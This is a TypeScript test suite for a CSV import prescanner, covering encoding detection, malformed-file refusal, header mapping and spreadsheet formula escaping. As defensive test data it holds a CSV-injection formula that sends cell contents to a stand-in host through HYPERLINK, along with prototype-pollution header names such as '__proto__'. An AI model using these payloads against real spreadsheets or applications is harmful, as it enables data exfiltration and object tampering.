import fs from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { AppError } from '../../src/errors.js';
import { decodeCp1252 } from '../../src/bulk/encoding.js';
import { DEFAULT_MAX_RECORD_CHARS, isUtf8Stream, prescanText, unfinishedUtf8, type PrescanLimits } from '../../src/bulk/prescan.js';
import { escapeFormula, unescapeFormula } from '../../src/bulk/formula.js';
import { mapHeader } from '../../src/bulk/columns.js';
import { tempDir } from '../support/db.js';

const dir = tempDir('pippin-prescan-');
let n = 0;
const file = (content: string | Buffer) => {
  const f = path.join(dir, `f${n++}.csv`);
  fs.writeFileSync(f, content);
  return f;
};
const LIMITS: PrescanLimits = { maxBytes: 10 * 1024 * 1024, maxRows: 100_000, maxRecordChars: DEFAULT_MAX_RECORD_CHARS };
const refused = async (content: string | Buffer, limits = LIMITS) => {
  try {
    await prescanText(file(content), limits);
  } catch (e) {
    expect(e).toBeInstanceOf(AppError);
    return e as AppError;
  }
  throw new Error('expected the file to be refused');
};

describe('prescan: encodings', () => {
  it('tells UTF-8 from other bytes as a strict decoder does, wherever the reads split a character', async () => {
    const strict = (bytes: Uint8Array) => {
      try {
        new TextDecoder('utf-8', { fatal: true }).decode(bytes);
        return true;
      } catch {
        return false;
      }
    };
    // Valid text (any character, four-byte ones included), sometimes with stray bytes spliced in.
    const bytes = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 40 }).map((t) => new Uint8Array(Buffer.from(t, 'utf8'))),
      fc
        .tuple(fc.string({ unit: 'binary', maxLength: 40 }), fc.uint8Array({ minLength: 1, maxLength: 4 }), fc.nat())
        .map(([t, stray, at]) => {
          const b = Buffer.from(t, 'utf8');
          const i = b.length ? at % (b.length + 1) : 0;
          return new Uint8Array(Buffer.concat([b.subarray(0, i), stray, b.subarray(i)]));
        }),
    );
    await fc.assert(
      fc.asyncProperty(bytes, fc.array(fc.nat(), { maxLength: 6 }), async (b, cuts) => {
        const at = [...new Set(cuts.map((c) => (b.length ? c % (b.length + 1) : 0)))].sort((x, y) => x - y);
        const reads = [0, ...at, b.length].slice(1).map((end, i, ends) => Buffer.from(b.subarray(i ? ends[i - 1] : 0, end)));
        expect(await isUtf8Stream(reads)).toBe(strict(b));
      }),
      { numRuns: 2000 },
    );
    // A read ending inside a character: its lead byte and the continuations it has.
    expect(unfinishedUtf8(Buffer.from('a€').subarray(0, 3))).toBe(2);
    expect(unfinishedUtf8(Buffer.from('a€'))).toBe(0);
    expect(unfinishedUtf8(Buffer.from('😀').subarray(0, 3))).toBe(3);
    expect(unfinishedUtf8(Buffer.from([0x80, 0x80, 0x80]))).toBe(0);
  });

  it('reads a UTF-8 BOM without leaking it into the first header (BAD-INPUTS 5)', async () => {
    const r = await prescanText(file(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('Username,Email\nzoë,z@x.example\n')])), LIMITS);
    expect(r).toMatchObject({ encoding: 'utf-8', bomLength: 3, header: ['Username', 'Email'], rows: 1, warnings: [] });
  });

  it('reads UTF-16 LE "Unicode Text" (tab-delimited, CRLF) and UTF-16 BE (BAD-INPUTS 6, 7)', async () => {
    const text = '\uFEFFUsername\tFull Name\r\nzoë\tZoë Ångström\r\nchen\t陈伟\r\n';
    const le = await prescanText(file(Buffer.from(text, 'utf16le')), LIMITS);
    expect(le).toMatchObject({ encoding: 'utf-16le', delimiter: '\t', header: ['Username', 'Full Name'], rows: 2 });
    const be = Buffer.from(text, 'utf16le').swap16();
    expect(await prescanText(file(be), LIMITS)).toMatchObject({ encoding: 'utf-16be', delimiter: '\t', rows: 2 });
  });

  it('falls back to Windows-1252 with a warning, and decodes every defined byte 0x80–0x9F right (BAD-INPUTS 8)', async () => {
    const defined = [...Array(32).keys()].map((i) => 0x80 + i).filter((b) => ![0x81, 0x8d, 0x8f, 0x90, 0x9d].includes(b));
    const bytes = Buffer.concat([Buffer.from('Username,Full Name\ncafe,Caf'), Buffer.from([0xe9]), Buffer.from(' '), Buffer.from(defined), Buffer.from('\n')]);
    const r = await prescanText(file(bytes), LIMITS);
    expect(r.encoding).toBe('windows-1252');
    expect(r.warnings[0]).toMatch(/Windows-1252/);
    expect(decodeCp1252(Buffer.from(defined))).toBe('€‚ƒ„…†‡ˆ‰Š‹ŒŽ‘’“”•–—˜™š›œžŸ');
    expect(decodeCp1252(Buffer.from([0x43, 0x61, 0x66, 0xe9]))).toBe('Café');
  });

  it.each([0x81, 0x8d, 0x8f, 0x90, 0x9d, 0x00])('refuses byte 0x%s that is neither UTF-8 nor Windows-1252 text, naming its offset (BAD-INPUTS 9)', async (b) => {
    const bytes = Buffer.concat([Buffer.from('Username\nab'), Buffer.from([0xe9, b]), Buffer.from('\n')]);
    const e = await refused(bytes);
    expect(e.code).toBe('FILE_ENCODING_INVALID');
    expect(e.message).toContain('offset 12');
  });

  it('refuses a NUL inside valid UTF-8 text', async () => {
    expect((await refused('Username\nab\u0000c\n')).code).toBe('FILE_ENCODING_INVALID');
  });
});

describe('prescan: shape', () => {
  it('detects comma, semicolon and tab from the header line, never silently one column (BAD-INPUTS 10)', async () => {
    expect((await prescanText(file('Username;Email;Domain\na;b@c.d;e.f\n'), LIMITS)).delimiter).toBe(';');
    expect((await prescanText(file('"User;name",Email\na,b\n'), LIMITS)).delimiter).toBe(',');
    expect((await prescanText(file('Username\tEmail\na\tb\n'), LIMITS)).header).toEqual(['Username', 'Email']);
  });

  it('refuses an unterminated quote on row 3 of 10,000 with its line (BAD-INPUTS 11)', async () => {
    const rows = ['Username,Full Name', 'a,A', 'b,"B unterminated', ...Array.from({ length: 9_998 }, (_, i) => `u${i},N${i}`)];
    const e = await refused(rows.join('\n'));
    expect(e.code).toBe('CSV_MALFORMED');
    expect(e.details).toMatchObject({ line: 3 });
  });

  it('refuses a 1 MB field with the line and bounded memory (BAD-INPUTS 16)', async () => {
    const before = process.memoryUsage().rss;
    const e = await refused(`Username,Full Name\na,${'x'.repeat(1024 * 1024)}\n`);
    expect(e.code).toBe('CSV_MALFORMED');
    expect(e.details).toMatchObject({ line: 2 });
    expect(process.memoryUsage().rss - before).toBeLessThan(64 * 1024 * 1024);
  });

  it('refuses quotes csv-parse would refuse: inside an unquoted value, or text after a closing quote', async () => {
    expect((await refused('Username,Email\nab"c,d\n')).details).toMatchObject({ line: 2 });
    expect((await refused('Username,Email\n"ab"c,d\n')).details).toMatchObject({ line: 2 });
  });

  it('counts a quoted multi-line value as one row, skips blank lines, and handles CRLF and a missing final newline', async () => {
    const r = await prescanText(file('Username,Note\r\n\r\na,"line one\r\nline ""two"""\r\n\r\nb,plain'), LIMITS);
    expect(r.rows).toBe(2);
    expect(r.header).toEqual(['Username', 'Note']);
  });

  it('refuses an empty file, a header without rows, too many rows and too many bytes, stating the limit (BAD-INPUTS 15)', async () => {
    expect((await refused('')).code).toBe('FILE_EMPTY');
    expect((await refused('\n\n')).code).toBe('FILE_EMPTY');
    expect((await refused('Username,Email\n')).message).toMatch(/header but no rows/);
    const rows = (k: number) => ['Username', ...Array.from({ length: k }, (_, i) => `u${i}`)].join('\n');
    expect((await prescanText(file(rows(5)), { ...LIMITS, maxRows: 5 })).rows).toBe(5);
    const tooMany = await refused(rows(6), { ...LIMITS, maxRows: 5 });
    expect(tooMany.code).toBe('IMPORT_TOO_MANY_ROWS');
    expect(tooMany.message).toContain('5 rows');
    const body = rows(5);
    expect((await prescanText(file(body), { ...LIMITS, maxBytes: body.length })).rows).toBe(5);
    const big = await refused(body, { ...LIMITS, maxBytes: body.length - 1 });
    expect(big.code).toBe('FILE_TOO_LARGE');
    expect(big.message).toContain(`limit is ${body.length - 1}`);
  });

  it('only ever refuses random bytes with a typed error, quickly (BAD-INPUTS 31)', async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 5000 }), async (bytes) => {
        const protoBefore = Object.getOwnPropertyNames(Object.prototype).length;
        try {
          const r = await prescanText(file(Buffer.from(bytes)), LIMITS);
          expect(r.rows).toBeGreaterThan(0);
        } catch (e) {
          expect(e).toBeInstanceOf(AppError);
        }
        expect(Object.getOwnPropertyNames(Object.prototype).length).toBe(protoBefore);
      }),
      { numRuns: 300 },
    );
  });
});

describe('header mapping', () => {
  const spec = [
    { key: 'username', header: 'Username', aliases: ['User Name'], required: true },
    { key: 'email', header: 'Email Address', aliases: ['Email'] },
    { key: 'maid', header: 'Managed Apple ID', aliases: ['Managed Apple Account', 'MAID'] },
  ] as const;

  it('matches headers and aliases case-insensitively, ignoring surrounding spaces', () => {
    const m = mapHeader(['  user NAME ', 'EMAIL', 'maid', 'Shoe Size'], spec);
    expect([...m.index.entries()]).toEqual([['username', 0], ['email', 1], ['maid', 2]]);
    expect(m.unknown).toEqual(['Shoe Size']);
  });

  it('treats __proto__ and constructor as unknown columns without touching any prototype (BAD-INPUTS 14)', () => {
    const m = mapHeader(['Username', '__proto__', 'constructor', 'prototype'], spec);
    expect(m.unknown).toEqual(['__proto__', 'constructor', 'prototype']);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('refuses a missing required column and duplicated headers (BAD-INPUTS 13)', () => {
    expect(() => mapHeader(['Email'], spec)).toThrow(expect.objectContaining({ code: 'IMPORT_HEADER_MISSING' }));
    expect(() => mapHeader(['Username', 'username '], spec)).toThrow(expect.objectContaining({ code: 'IMPORT_HEADER_DUPLICATE' }));
    expect(() => mapHeader(['Username', 'Email', 'Email Address'], spec)).toThrow(expect.objectContaining({ code: 'IMPORT_HEADER_DUPLICATE' }));
  });
});

describe('formula neutralisation', () => {
  const triggers = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
  it('escapes every trigger, including LF and full-width forms (BAD-INPUTS 1, 2)', () => {
    for (const t of triggers) expect(escapeFormula(`${t}x`)).toBe(`'${t}x`);
    expect(escapeFormula('=HYPERLINK("http://x/?"&A1,"y")')).toBe(`'=HYPERLINK("http://x/?"&A1,"y")`);
    expect(escapeFormula('plain')).toBe('plain');
    expect(escapeFormula("'quoted")).toBe("'quoted");
    expect(escapeFormula("'@x")).toBe("''@x");
    expect(unescapeFormula("''@x")).toBe("'@x");
  });
  it('escapes a value exactly when it starts with a trigger, after any apostrophes; an import removes exactly that one', () => {
    const rule = (v: string) => /^'*/.exec(v)![0].length < v.length && triggers.includes(v[/^'*/.exec(v)![0].length]!);
    fc.assert(
      fc.property(fc.tuple(fc.constantFrom('', "'", "''"), fc.oneof(fc.constantFrom(...triggers), fc.string({ maxLength: 1 }), fc.string({ unit: 'grapheme', maxLength: 1 })), fc.string()), (parts) => {
        const v = parts.join('');
        expect(escapeFormula(v)).toBe(rule(v) ? `'${v}` : v);
        expect(unescapeFormula(v)).toBe(v.startsWith("'") && rule(v.slice(1)) ? v.slice(1) : v);
      }),
      { numRuns: 3000 },
    );
  });
  it('round-trips any value, negative numbers and phone numbers included (BAD-INPUTS 4)', () => {
    fc.assert(
      fc.property(fc.tuple(fc.constantFrom('', "'", "''", ...triggers), fc.string()), ([prefix, rest]) => {
        const v = prefix + rest;
        expect(unescapeFormula(escapeFormula(v))).toBe(v);
      }),
      { numRuns: 3000 },
    );
    expect(unescapeFormula(escapeFormula('-42'))).toBe('-42');
    expect(unescapeFormula(escapeFormula('+1 555 0100'))).toBe('+1 555 0100');
  });
});
